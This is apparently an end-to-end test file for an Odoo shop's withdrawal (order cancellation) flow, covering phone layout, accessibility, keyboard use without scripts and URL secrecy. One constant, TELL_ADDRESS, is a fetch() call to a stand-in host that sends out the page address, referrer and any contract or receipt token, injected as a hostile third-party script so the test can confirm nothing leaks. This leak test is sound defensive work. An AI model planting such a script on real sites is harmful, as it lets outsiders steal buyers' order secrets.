# Copyright 2026 Trusted Shops for Odoo contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""A buyer with a phone, no scripts and the mail of the order withdraws.

Then staff settle it.
"""

import re

import pytest
from queue_process import SEND_MAILS
from story import (
    DESK,
    address_of,
    mails_to,
    see_accessible,
)
from test_withdrawal_crashes import WORK

pytestmark = pytest.mark.full

PHONE = {"width": 320, "height": 640}
LINK = ".o_withdrawal_link a"
MARGIN = "getComputedStyle(document.querySelector('.o_withdrawal_link')).marginBottom"
BADGE = "[data-tb-element='trustbadge_minimised_container']"
BAR = "#website_cookies_bar .modal.show .modal-content"
# As a theme and a live chat would.
FLOAT = """document.body.insertAdjacentHTML("beforeend", `
    <style>.floats {position: fixed; bottom: 16px; width: 56px; height: 56px}</style>
    <a class="floats" style="left: 16px; z-index: 1030">Up</a>
    <a class="floats" style="right: 16px; z-index: 2000">Chat</a>
`)"""
# Makes the bar a pop-up in the middle, as the website's editor would.
MAKE_POPUP = """(content) => {
    content.closest(".modal").classList.replace("s_popup_bottom", "s_popup_middle");
    content.parentElement.classList.remove("s_popup_size_full");
    content.style.minHeight = "400px";
}"""
# Moves to the link and tells whether its middle can be clicked.
IS_FREE = """(link, how) => {
    window.scrollTo(0, how === "end" ? document.documentElement.scrollHeight : 0);
    if (how === "focus") {
        link.blur();
        link.focus();
    }
    const {left, right, top, bottom} = link.getBoundingClientRect();
    const middle = [(left + right) / 2, (top + bottom) / 2];
    return link.contains(document.elementFromPoint(...middle));
}"""
# What is wider than a narrow window when a reader doubles the size of the text.
FIND_WIDE = """() => {
    document.documentElement.style.fontSize = "200%";
    const ours = document.querySelectorAll("#wrap *, .o_withdrawal_link *");
    const wide = [...ours].filter(
        (each) => each.getBoundingClientRect().right > window.innerWidth + 1
    );
    document.documentElement.style.fontSize = "";
    return wide.map((each) => each.outerHTML);
}"""
# What scripts of others do, some as soon as they can.
TELL_ADDRESS = """fetch("https://theirs.example/tell?" + new URLSearchParams(
    {
        address: location.href,
        came_from: document.referrer,
        named: document.head.innerHTML.match(/(contract=|receipt\\/)[\\w-]{8,}/),
    }
), {mode: "no-cors"})"""
EMAIL = "phone@kunde.example"
SELL = """
website = env["website"].search([], order="id", limit=1)
partner = env["res.partner"].create(
    {{"name": "Erika Mustermann", "email": {email!r}, "lang": "de_DE"}}
)
product = env["product.product"].create({{"name": "Lamp", "type": "service"}})
order = env["sale.order"].create(
    {{
        "partner_id": partner.id, "website_id": website.id,
        "company_id": website.company_id.id,
        "order_line": [(0, 0, {{"product_id": product.id, "product_uom_qty": 3}})],
    }}
)
order.action_confirm()
order._send_order_confirmation_mail()
result = order.name
"""


@pytest.fixture
def sold(queue):
    """Return the number of an order whose buyer got its mail."""
    name = queue.do(SELL.format(email=EMAIL))
    queue.do(SEND_MAILS)
    return name


def read_link(shop, sold):
    """Return the address that the mail of the order leads to."""
    [mail] = mails_to(shop, EMAIL, sold)
    [address] = re.findall(r'href="([^"]*/withdrawal\?[^"]*)"', mail["html"])
    assert "Vertrag widerrufen" in mail["html"]
    return address.replace("&amp;", "&")


def see_plain_address(visitor, selector):
    """Wait for a part of a page that has a secret, which its address must not show."""
    visitor.page.locator(selector).wait_for()
    visitor.wait_until_usable()
    assert visitor.page.url == f"{visitor.url}/withdrawal"


def get_overflow(page):
    return page.evaluate(
        "() => document.documentElement.scrollWidth - window.innerWidth"
    )


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_nothing_that_floats_covers_the_link(new_visitor, change, width):
    change("website", cookies_bar=True)
    visitor = new_visitor(viewport={"width": width, "height": 640})
    visitor.reach_payment(DESK, address_of("link@kunde.example"))
    page, link = visitor.page, visitor.page.locator(LINK)
    # The order button sticks to the lower end of a phone.
    for path in ("/shop/payment", "/"):
        visitor.open(path)
        page.locator(BAR).wait_for()
        page.evaluate(FLOAT)
        for how in ("end", "focus"):
            assert link.evaluate(IS_FREE, how), (path, how)
    page.locator(BAR).evaluate(MAKE_POPUP)
    page.wait_for_function(f"!parseFloat({MARGIN})")
    for how in ("end", "focus"):
        assert link.evaluate(IS_FREE, how), how
    page.click("#cookies-consent-all")
    page.locator(BAR).wait_for(state="hidden")
    page.locator(BADGE).wait_for()
    for how in ("end", "focus"):
        assert link.evaluate(IS_FREE, how), how
    assert page.evaluate(MARGIN) == "0px"


def see_readable(page):
    """Check the part of the page that is ours."""
    see_accessible(page, "#wrap")
    assert page.evaluate(FIND_WIDE) == []


def test_link_steps_and_receipt_are_accessible(new_visitor):
    visitor = new_visitor(viewport=PHONE)
    page = visitor.page
    page.goto(f"{visitor.url}/withdrawal")
    see_accessible(page, ".o_withdrawal_link")
    see_readable(page)
    page.fill("#buyer_name", "Erika Mustermann")
    page.fill("#email", "steps@kunde.example")
    page.click(".o_withdrawal_form button")
    page.locator("#order_reference_error").wait_for()
    see_readable(page)
    page.fill("#order_reference", "S0815")
    page.click(".o_withdrawal_form button")
    see_accessible(page, ".o_withdrawal_confirm")
    see_readable(page)
    page.click(".o_withdrawal_confirm button")
    page.locator("#wrap [role='status']").wait_for()
    see_readable(page)
    page.go_back()
    page.locator(".o_withdrawal_confirm").wait_for()
    assert visitor.errors == []


def test_a_buyer_who_has_only_the_mail_withdraws_by_keyboard(
    shop, queue, new_visitor, sold
):
    page = new_visitor(viewport=PHONE, java_script_enabled=False).page
    page.goto(read_link(shop, sold))
    assert page.locator("#buyer_name").input_value() == "Erika Mustermann"
    assert page.locator("#email").input_value() == EMAIL
    assert get_overflow(page) <= 0
    quantity = page.locator("[name^='quantity_']")
    quantity.focus()
    page.keyboard.press("Control+A")
    page.keyboard.type("2")
    page.keyboard.press("Enter")
    button = page.locator(".o_withdrawal_confirm button")
    assert button.inner_text() == "Widerruf bestätigen"
    assert "2 × Lamp" in page.locator("#wrap").inner_text()
    button.focus()
    page.keyboard.press("Enter")
    page.locator("[role='status']").wait_for()
    text = page.locator("#wrap").inner_text()
    assert sold in text and "Europe/Berlin" in text
    assert get_overflow(page) <= 0
    # Back from there is no error, and pressing again declares nothing more.
    page.go_back()
    page.click(".o_withdrawal_confirm button")
    page.locator("[role='status']").wait_for()
    assert page.locator("#wrap").inner_text() == text
    page.goto(read_link(shop, sold))
    assert page.locator(".o_withdrawal_standing li").count() == 1
    queue.do(WORK)
    queue.do(SEND_MAILS)
    [receipt] = mails_to(
        shop, EMAIL, f"hat Ihren Widerruf der Bestellung {sold} erhalten"
    )
    assert "2 × Lamp" in receipt["html"]


def test_scripts_of_others_do_not_learn_the_secret_of_an_address(
    shop, new_visitor, sold, change
):
    at_once = f"<script>{TELL_ADDRESS}</script>"
    change("website", google_analytics_key="G-1", custom_code_head=at_once)
    visitor = new_visitor()
    page, told = visitor.page, []
    page.route(
        re.compile(rf"^(?!{re.escape(visitor.url)}/)"),
        lambda route: (told.append(route.request), route.fulfill(body=TELL_ADDRESS)),
    )
    page.goto(read_link(shop, sold))
    see_plain_address(visitor, ".o_withdrawal_articles")
    page.reload()
    see_plain_address(visitor, ".o_withdrawal_articles")
    page.click(".o_withdrawal_form button")
    page.click(".o_withdrawal_confirm button")
    see_plain_address(visitor, "#wrap [role='status']")
    page.reload()
    see_plain_address(visitor, "#wrap [role='status']")
    # What it holds may be gone by then: the first step comes, and only once.
    page.evaluate("history.replaceState({secret: '/withdrawal/receipt/gone-1234'}, '')")
    page.reload()
    see_plain_address(visitor, ".o_withdrawal_form")
    said = "\n".join(
        f"{request.url} {request.post_data} {request.headers}" for request in told
    )
    assert "googletagmanager" in said and "theirs.example" in said
    assert re.findall("contract|receipt", said) == []
    assert visitor.errors == []
